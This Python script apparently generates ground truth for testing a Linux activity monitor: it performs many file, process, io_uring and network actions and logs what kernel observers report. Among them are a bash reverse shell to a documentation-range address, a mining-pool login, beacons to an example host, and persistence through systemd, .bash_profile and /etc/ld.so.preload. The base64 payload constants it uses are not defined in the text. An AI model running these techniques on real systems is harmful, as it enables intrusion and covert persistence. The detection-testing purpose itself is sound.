#!/usr/bin/python3
# Acts in ways that no system call of 64 bits shows, or that are told from outside only with care, while the kernel's own
# observers watch: inotify the folder, the process connector the processes. Their words are left in /root/truth.json.
import base64, ctypes, hashlib, json, mmap, os, select, signal, socket, struct, subprocess, time, urllib.request

libc = ctypes.CDLL(None, use_errno=True)
FOLDER = "/root/watched"
os.makedirs(FOLDER)

# include/uapi/linux/inotify.h
KINDS = {0x2: "modified", 0x4: "attributes", 0x40: "from", 0x80: "to", 0x100: "created", 0x200: "removed"}
notify = libc.inotify_init1(os.O_NONBLOCK)
assert notify >= 0 and libc.inotify_add_watch(notify, FOLDER.encode(), sum(KINDS)) >= 0

# include/uapi/linux/cn_proc.h, connector.h: the process connector tells forks, executions and ends.
connector = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 11)
connector.setsockopt(socket.SOL_SOCKET, 33, 32 << 20)
connector.bind((os.getpid(), 1))
connector.setblocking(False)
listen = struct.pack("=IIIIHHI", 1, 1, 0, 0, 4, 0, 1)
connector.send(struct.pack("=IHHII", 16 + len(listen), 3, 0, 0, os.getpid()) + listen)

# Requests of io_uring (include/uapi/linux/io_uring.h), one at a time.
params = ctypes.create_string_buffer(120)
ring_fd = libc.syscall(425, 4, params)
assert ring_fd >= 0
sq_entries, cq_entries = struct.unpack_from("<2I", params.raw)
sq_tail, sq_array = struct.unpack_from("<I", params.raw, 44)[0], struct.unpack_from("<I", params.raw, 64)[0]
cq_head, cq_cqes = struct.unpack_from("<I", params.raw, 80)[0], struct.unpack_from("<I", params.raw, 100)[0]
ring = mmap.mmap(ring_fd, max(sq_array + 4 * sq_entries, cq_cqes + 16 * cq_entries))
entries = mmap.mmap(ring_fd, 64 * sq_entries, offset=0x10000000)
asked = 0

def request(opcode, fd=-100, address=0, length=0, offset=0, flags=0):
    global asked
    entries[0:64] = struct.pack("<BBHiQQII", opcode, 0, 0, fd, offset, address, length, flags).ljust(64, b"\0")
    struct.pack_into("<I", ring, sq_array + 4 * (asked % sq_entries), 0)
    struct.pack_into("<I", ring, sq_tail, asked + 1)
    assert libc.syscall(426, ring_fd, 1, 1, 1, 0, 0) == 1
    [result] = struct.unpack_from("<i", ring, cq_cqes + 16 * (asked % cq_entries) + 8)
    asked += 1
    struct.pack_into("<I", ring, cq_head, asked)
    return result

def text(value):
    kept.append(ctypes.create_string_buffer(value.encode()))
    return ctypes.addressof(kept[-1])

kept = []
# Facts of what was done, beside the observers' words.
told = {"hashes": {}}
inside = lambda name: f"{FOLDER}/{name}"
run = lambda *words, **more: subprocess.run(words, check=True, **more)

def by_ring():
    fd = request(18, address=text(inside("ring")), length=0o600, flags=os.O_CREAT | os.O_WRONLY)
    assert fd >= 0 and request(23, fd=fd, address=text("written"), length=7) == 7
    os.close(fd)
    assert request(37, address=text(inside("ring.d")), length=0o700) == 0
    assert request(35, address=text(inside("ring")), length=0xffffff9c, offset=text(inside("ring.new"))) == 0
    assert request(36, address=text(inside("ring.d")), flags=0x200) == 0
    one = socket.socket()
    ends = ctypes.create_string_buffer(struct.pack("=HH4s8x", socket.AF_INET, socket.htons(8081), socket.inet_aton("192.0.2.81")))
    kept.append(ends)
    assert request(16, fd=one.fileno(), address=ctypes.addressof(ends), offset=16) == 0
    one.close()

def by_32_bits():
    with open("/root/narrow32", "wb") as file:
        file.write(base64.b64decode(NARROW))
    os.chmod("/root/narrow32", 0o755)
    run("/root/narrow32")

def by_endless_calls():
    with open("/root/silences", "wb") as file:
        file.write(base64.b64decode(SILENCING))
    os.chmod("/root/silences", 0o755)
    run("/root/silences")

def by_rare_calls():
    how = struct.pack("<3Q", os.O_CREAT | os.O_WRONLY | os.O_TRUNC, 0o600, 0)
    fd = libc.syscall(437, -100, inside("opened2").encode(), how, len(how))
    assert fd >= 0 and os.write(fd, b"x") == 1
    os.close(fd)
    # clone3() with SIGCHLD alone is a fork; the child is a program that is given by its descriptor.
    child = libc.syscall(435, struct.pack("<8Q", 0, 0, 0, 0, signal.SIGCHLD, 0, 0, 0), 64)
    if child == 0:
        words = (ctypes.c_char_p * 3)(b"by-execveat", b"x", None)
        libc.syscall(322, os.open("/bin/true", os.O_PATH), b"", words, None, 0x1000)
        os._exit(1)
    assert child > 0 and os.waitpid(child, 0)[1] == 0
    told["child"] = child
    # Into the keyring of the process.
    told["key"] = key = libc.syscall(248, b"user", b"own:key", b"secret", 6, -2)
    assert key > 0 and libc.syscall(250, 11, key, ctypes.create_string_buffer(6), 6) == 6 and libc.syscall(250, 3, key) == 0
    # Debian's kernels refuse calls of x32 (ENOSYS).
    assert libc.syscall(0x40000000 | 83, b"/root/x32", 0o700) == -1 and ctypes.get_errno() == 38

def by_rights():
    child = os.fork()
    if child == 0:
        os.setgroups([7, 8])
        os.setresgid(12, 13, 14)
        os.setresuid(15, 16, 17)
        os._exit(0)
    assert os.waitpid(child, 0)[1] == 0
    os.mkdir("/root/mounted")
    run("mount", "-t", "tmpfs", "none", "/root/mounted")
    run("umount", "/root/mounted")

def by_programs():
    # Of the second one hardly a page is in memory when it begins.
    for path in ("/usr/bin/touch", "/usr/bin/openssl"):
        with open(path, "rb") as file:
            told["hashes"][path] = hashlib.sha256(file.read()).hexdigest()
            os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_DONTNEED if path.endswith("openssl") else os.POSIX_FADV_NORMAL)
    run("touch", inside("touched"))
    run("openssl", "version", stdout=subprocess.DEVNULL)

def by_commands():
    lines = """
echo one > plain; cp plain copy; ln copy second; ln -s copy link; mv second third; rm link
touch -d 2001-02-03 third; chmod 700 third; chown 12 third; truncate -s 0 plain; echo x >> plain; : > copy
sed -i s/x/y/ plain; dd if=/dev/zero of=zeros bs=1k count=4 status=none; mkfifo pipe; mkdir folder; rmdir folder
cat /etc/hostname > log; : > log; tee -a log < /etc/hostname > /dev/null
for each in 1 2 3; do echo $each > secret$each; mv secret$each secret$each.locked; done
"""
    run("/bin/bash", "-ec", lines, cwd=FOLDER)
    with open(inside("sent"), "wb") as out, open("/etc/passwd", "rb") as file:
        os.sendfile(out.fileno(), file.fileno(), 0, 100)
    # A copy by the kernel alone, and a piece of a pipe.
    with open(inside("ranged"), "wb") as out, open("/etc/passwd", "rb") as file:
        os.copy_file_range(file.fileno(), out.fileno(), 100)
    read, write = os.pipe()
    os.write(write, b"spliced")
    with open(inside("spliced"), "wb") as out:
        os.splice(read, out.fileno(), 7)

def in_container():
    # As runc does it: namespaces, an overlay of its own, another root.
    lines = """
mkdir -p /root/box/upper /root/box/work /root/box/root; mount -t overlay -o lowerdir=/,upperdir=/root/box/upper,workdir=/root/box/work none /root/box/root
exec chroot /root/box/root /bin/sh -c 'echo x > /opt/boxed; mv /opt/boxed /opt/box'
"""
    run("unshare", "--mount", "--pid", "--fork", "--uts", "/bin/sh", "-ec", lines)

def by_chain(length):
    # Each process lives only until it has made the next one; the last is a daemon.
    if os.fork() == 0:
        for _ in range(length - 1):
            if os.fork() > 0:
                os._exit(0)
        os.setsid()
        os.close(os.open(inside("chain"), os.O_CREAT | os.O_WRONLY | os.O_TRUNC))
        os._exit(0)
    os.wait()
    while not os.path.exists(inside("chain")):
        time.sleep(0.05)

def by_network():
    # Not blocking: made a little later, and refused at once.
    for ends in (("192.0.2.80", 8080), ("127.0.0.1", 9)):
        with socket.socket() as one:
            one.setblocking(False)
            one.connect_ex(ends)
            select.select([], [one], [], 20)
            one.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendmsg([b"x"], [], 0, ("192.0.2.53", 5353))
    for turn in range(2):
        urllib.request.urlopen(f"http://beacon.example.net/turn?{turn}", timeout=60).read()

def by_silence():
    # Who waits has been given no answer: the queue of each server is full (listen(2)), and the kernel asks once more.
    ends = [("127.0.0.1", port) for port in (7005, 7006)]
    servers = [socket.create_server(end, backlog=0) for end in ends]
    first = [socket.create_connection(end) for end in ends]
    waiting, blocking = [socket.socket() for _ in ends]
    for one in (waiting, blocking):
        one.setsockopt(socket.IPPROTO_TCP, socket.TCP_SYNCNT, 1)
    waiting.setblocking(False)
    waiting.connect_ex(ends[0])
    assert blocking.connect_ex(ends[1]) == 110
    select.select([], [waiting], [], 20)
    assert waiting.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 110
    for one in (*servers, *first, waiting, blocking):
        one.close()

def by_miner():
    # Works as a miner does, for the pool that it has logged in to.
    with socket.create_connection(("192.0.2.82", 3333), timeout=20) as pool:
        pool.sendall(b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"own","pass":"x","agent":"own/1"}}\n')
        nonce, end = 0, time.monotonic() + 1
        while time.monotonic() < end:
            hashlib.sha256(struct.pack("<Q", nonce).ljust(80, b"\0")).digest()
            nonce += 1

def by_reverse_shell():
    # Whoever is at the other end says nothing that ends a shell.
    subprocess.run(["timeout", "-s", "KILL", "3", "bash", "-c", "sh -i >& /dev/tcp/192.0.2.83/4444 0>&1"])

def by_library():
    with open("/root/own.so", "wb") as file:
        file.write(base64.b64decode(LIBRARY))
    run("env", "LD_PRELOAD=/root/own.so", "/bin/true")
    run("/root/dynamic")

def by_system():
    # What the system starts because of what was written.
    with open("/etc/systemd/system/left.service", "w") as file:
        file.write("[Service]\nType=oneshot\nExecStart=/bin/sh -c 'echo x > /root/by-unit'\n")
    run("systemctl", "start", "left.service")
    # Asked for by a message: that is the system's.
    run("systemd-run", "--quiet", "--wait", "/bin/sh", "-c", "echo x > /root/by-message")
    with open("/root/.bash_profile", "w") as file:
        file.write("echo x > /root/by-profile\n")
    run("systemd-run", "--quiet", "--wait", "/bin/bash", "-lc", "true")
    with open("/etc/ld.so.preload", "w") as file:
        file.write("/root/own.so\n")
    run("systemctl", "start", "systemd-tmpfiles-clean.service")
    os.remove("/etc/ld.so.preload")

with open("/root/dynamic", "wb") as file:
    file.write(base64.b64decode(DYNAMIC))
os.chmod("/root/dynamic", 0o755)
for act in (by_ring, by_32_bits, by_endless_calls, by_rare_calls, by_rights, by_programs, by_commands, in_container, lambda: by_chain(100), by_network, by_silence, by_miner, by_reverse_shell, by_library, by_system):
    act()

seen = set()
data = os.read(notify, 1 << 20)
at = 0
while at < len(data):
    _, mask, _, size = struct.unpack_from("iIII", data, at)
    name = data[at + 16:at + 16 + size].rstrip(b"\0").decode()
    seen.update((kind, name) for bit, kind in KINDS.items() if mask & bit)
    at += 16 + size

own, executed = {os.getpid()}, []
while True:
    try:
        message = connector.recv(4096)
    except BlockingIOError:
        break
    [what] = struct.unpack_from("=I", message, 36)
    facts = struct.unpack_from("=4I", message, 52)
    if what == 1 and facts[1] in own and facts[2] == facts[3]:
        own.add(facts[3])
    if what == 2 and facts[1] in own:
        executed.append(facts[1])
with open("/root/truth.json", "w") as file:
    json.dump({"files": sorted(seen), "processes": sorted(own), "executed": sorted(executed), **told}, file)
